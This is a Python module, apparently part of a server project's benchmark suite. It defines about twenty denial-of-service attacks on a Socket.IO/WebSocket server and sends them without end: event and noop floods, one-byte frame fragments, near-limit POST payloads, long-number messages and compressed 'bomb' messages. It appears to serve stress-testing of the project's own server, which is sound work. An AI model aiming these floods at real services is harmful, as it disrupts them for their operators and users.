"""What attackers send: each costs the server much more than the client.

``python -m benchmarks.attackers.attacks NAME PORT`` does it until it is ended.
"""

import json
import sys
import threading
import time
import zlib
from dataclasses import dataclass

from benchmarks.attackers.wire import (
    COMPRESSED,
    CONTINUED,
    FINAL,
    PING,
    TEXT,
    Polling,
    fill,
    frame,
    text,
    websocket,
)

PAYLOAD = 900_000
"""Bytes of a POST: less than SOCKETIO_MAX_MESSAGE_SIZE."""

FOREVER = 1_000_000

PACKETS = 100_000
"""In a POST: SOCKETIO_MAX_PAYLOAD_PACKETS."""


def deflated(content):
    """Return a message in one compressed frame."""
    compressor = zlib.compressobj(9, wbits=-15)
    data = compressor.compress(content.encode()) + compressor.flush(zlib.Z_SYNC_FLUSH)
    return frame(FINAL | TEXT | COMPRESSED, data.removesuffix(b"\x00\x00\xff\xff"))


def event(*args):
    """Return an event as a packet."""
    return "42" + json.dumps(args, separators=(",", ":"))


def posted(packet):
    """Return a payload full of a packet."""
    count = min(PAYLOAD // (len(packet) + 1), PACKETS)
    return "\x1e".join([packet] * count).encode()


SUBSCRIBES = "".join(event("subscribe", f"c{n}") + "\n" for n in range(50)).split()
LEAVES = [packet.replace("subscribe", "unsubscribe") for packet in SUBSCRIBES]
FRAGMENTS = frame(TEXT, b"6") + frame(CONTINUED, b"x") * 9_000 + frame(FINAL | CONTINUED, b"x")
ZEROS = "0," * 60_000 + "0"
LARGE = "0," * 400_000 + "0"
LONG_NUMBERS = ("9" * 20 + ",") * 40_000 + "0"


@dataclass(frozen=True)
class Attack:
    """An attack.

    Args:
        title: what is sent, for tables.
        write: one write of it, over and over again.
        polling: whether it is the body of a POST, not frames of a WebSocket.
        compressed: whether the connection agrees to compression.

    """

    title: str
    write: bytes
    polling: bool = False
    compressed: bool = False


ATTACKS = {
    "nothing": Attack("nothing", b""),
    "events": Attack("events whose handler reads the user", fill(text(event("who")))),
    "work": Attack("events whose handler computes for 1 ms", fill(text(event("work")))),
    "failures": Attack("events whose handler raises", fill(text(event("fail")))),
    "unknown": Attack("events nobody handles, with answers", fill(text('420["?"]'))),
    "subscribes": Attack(
        "subscribes and unsubscribes", fill(b"".join(map(text, SUBSCRIBES + LEAVES)))
    ),
    "connects": Attack("CONNECTs of unknown namespaces", fill(text("40/x,"))),
    "answers": Attack("answers to no question", fill(text("430[]"))),
    "pings": Attack("pings of WebSocket", fill(frame(FINAL | PING, b""))),
    "noops": Attack("noops of Engine.IO", fill(text("6"))),
    "fragments": Attack("fragments of one byte", fill(FRAGMENTS)),
    "post-events": Attack("one POST of events", posted(event("who")), polling=True),
    "post-noops": Attack("one POST of noops", posted("6"), polling=True),
    "post-connects": Attack("one POST of CONNECTs", posted("40/x,"), polling=True),
    "large": Attack("messages of 800 KB", text(f'42["?",[{LARGE}]]')),
    "long-numbers": Attack("messages of long numbers", text(f'42["?",[{LONG_NUMBERS}]]')),
    "bombs": Attack(
        "compressed messages of 800 KB", fill(deflated(f'42["?",[{LARGE}]]')), compressed=True
    ),
    "small-bombs": Attack(
        "compressed messages of 120 KB", fill(deflated(f'42["?",[{ZEROS}]]')), compressed=True
    ),
    "compressed-noops": Attack("compressed noops", fill(deflated("6")), compressed=True),
}


def attack(name, port):
    """Send it without end; whatever the server answers is read."""
    chosen = ATTACKS[name]
    while True:
        try:
            post(chosen, port) if chosen.polling else write(chosen, port)
        except OSError as error:
            print(f"{name}: {error}", file=sys.stderr, flush=True)


def post(attack, port):
    """Send it by long-polling."""
    session = Polling(port)
    while True:
        session.post(attack.write)
        session.drain()


def write(attack, port):
    """Send it by WebSocket."""
    connection = websocket(port, attack.compressed)
    threading.Thread(target=swallow, args=(connection,), daemon=True).start()
    print("begun", flush=True)
    while attack.write:
        connection.sendall(attack.write)
    time.sleep(FOREVER)


def swallow(connection):
    """Read whatever comes."""
    try:
        while connection.recv(1_000_000):
            pass
    except OSError:
        pass


if __name__ == "__main__":
    attack(sys.argv[1], int(sys.argv[2]))
